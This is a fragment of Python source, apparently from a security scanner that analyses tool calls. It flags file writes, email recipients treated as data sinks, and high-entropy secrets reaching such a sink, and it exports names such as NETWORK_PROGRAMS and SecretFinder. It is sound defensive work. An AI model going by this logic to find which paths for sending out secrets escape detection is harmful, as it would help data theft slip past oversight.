    writes = bool(words & _WRITE_WORDS)
    sends = bool(words & _SEND_WORDS)
    if writes or sends:
        for path, key, text in leaves:
            role = _key_role(key)
            if not role:
                continue
            if writes and role & _PATH_ROLE and _single_path(text.strip()):
                extra.append((WRITES, _home(text.strip()), path))
            if sends and role & _MAIL_ROLE:
                for address in re.split(r"[,;\s]+", text):
                    if _EMAIL.match(address):
                        extra.append((SINKS, f"mail {address.lower()}", path))
    sink = sends or any(k == SINKS for k, _, _ in derived)
    if sink:
        for kind, text, path in derived:
            if kind == SECRETS and text == "high-entropy":
                extra.append((SECRETS, "high-entropy@sink", path))
    return extra


__all__ = [
    "CALL_FACTS",
    "FACT_INDEX",
    "FACT_TARGETS",
    "KEY_CODE",
    "KEY_COMMAND",
    "KEY_HOST",
    "KEY_NO_FACTS",
    "KEY_PLAIN",
    "KEY_URL",
    "KNOWN_PROGRAMS",
    "NETWORK_PROGRAMS",
    "SHELL_TOOL",
    "SecretFinder",
    "call_facts",
    "command_facts",
    "dns_shaped",
    "key_class",
    "may_add_facts",
    "place_key",
    "secret_finder",
    "set_secret_finder",
    "text_facts",
    "tool_flags",
    "tool_words",
    "url_host",
]
